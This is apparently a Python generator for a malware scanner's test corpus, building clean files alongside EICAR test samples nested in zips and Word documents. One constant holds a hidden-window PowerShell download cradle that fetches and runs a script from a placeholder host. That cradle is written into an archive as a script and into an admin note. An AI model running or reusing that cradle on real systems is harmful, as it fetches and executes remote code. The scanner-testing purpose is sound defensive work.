#!/usr/bin/python3
"""Builds Tollgate's sample corpus from harmless parts into OUTDIR.

Nothing here is malware: the "malicious" samples carry the EICAR test string (assembled at run
time, so no source file holds it whole) or text that only looks like an attack to signatures.
Output is deterministic (fixed zip timestamps) so expectations.json can name exact findings.
Usage: generate.py OUTDIR
"""
import io
import os
import sys
import zipfile

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)

DOWNLOAD_CRADLE = (b"Reminder for the admin team:\r\n"
                   b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                   b".DownloadString('http://example.invalid/stage2.ps1')\"\r\n")


def zip_bytes(members):
    """members: list of (name, bytes). Deflated, fixed timestamps."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def minimal_pdf(text):
    """A valid one-page PDF with correct xref offsets."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n")
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R >>\nstartxref\n"
              + str(xref).encode() + b"\n%%EOF\n")
    return out.getvalue()


def minimal_docx(paragraph, extra_members=()):
    """A Word document with the parts Word itself requires, plus optional extra parts."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        '</Types>')
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>' + paragraph + '</w:t></w:r></w:p></w:body></w:document>')
    members = [("[Content_Types].xml", content_types.encode()), ("_rels/.rels", rels.encode()),
               ("word/document.xml", document.encode())]
    return zip_bytes(members + list(extra_members))


def tiny_png():
    """A valid 1x1 PNG, built with zlib and crc32 like any encoder."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def samples():
    # Imported here: the sample modules import this one for the shared parts.
    import archive_samples
    import attack_samples
    import benign_documents
    import office_samples
    import pdf_samples

    eicar_zip = zip_bytes([("eicar.com", EICAR)])
    inner = zip_bytes([("eicar.com", EICAR), ("readme.txt", b"inner archive\n")])
    return {
        # Clean documents: a scanner must allow all of these.
        "clean/letter.txt": b"Dear customer,\nplease find the invoice for November attached.\nRegards\n",
        "clean/invoice.csv": b"item,quantity,price\npaper,10,4.20\ntoner,1,59.90\n",
        "clean/report.pdf": minimal_pdf("Quarterly report: revenue grew by 4 percent."),
        "clean/memo.docx": minimal_docx("Team meeting moved to Thursday."),
        "clean/photos.zip": zip_bytes([("photos/pixel.png", tiny_png()),
                                       ("photos/captions.txt", b"pixel.png: a white pixel\n")]),
        # EICAR in plain form and buried in containers.
        "malicious/eicar.com": EICAR,
        "malicious/eicar.zip": eicar_zip,
        "malicious/nested.zip": zip_bytes([("docs/inner.zip", inner), ("docs/notes.txt", b"nothing here\n")]),
        "malicious/triple_nested.zip": zip_bytes([("level1.zip", zip_bytes([("level2.zip", eicar_zip)]))]),
        "malicious/eicar_media.docx": minimal_docx("See the attached picture.",
                                                   [("word/media/image1.bin", EICAR)]),
        # A PowerShell download cradle inside an archive: as a script Windows runs it (malicious); as
        # a note quoting it (an admin's reminder) it is prose, and clean.
        "malicious/cradle.zip": zip_bytes([("tools/update.ps1", DOWNLOAD_CRADLE)]),
        "benign/prose/cradle_note.zip": zip_bytes([("notes/admin.txt", DOWNLOAD_CRADLE)]),
        # Media whose first byte is a jump opcode: libmagic calls it "DOS executable (COM)", but
        # nothing loads it as one.
        "benign/jump_media.docx": minimal_docx("See the attached chart.",
                                               [("word/media/chart1.bin", b"\xe9\x10\x00" + bytes(range(256)) * 8)]),
        **archive_samples.samples(),
        **attack_samples.samples(),
        **benign_documents.samples(),
        **office_samples.samples(),
        **pdf_samples.samples(),
    }


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    root = sys.argv[1]
    for name, data in samples().items():
        path = os.path.join(root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as out:
            out.write(data)


if __name__ == "__main__":
    main()
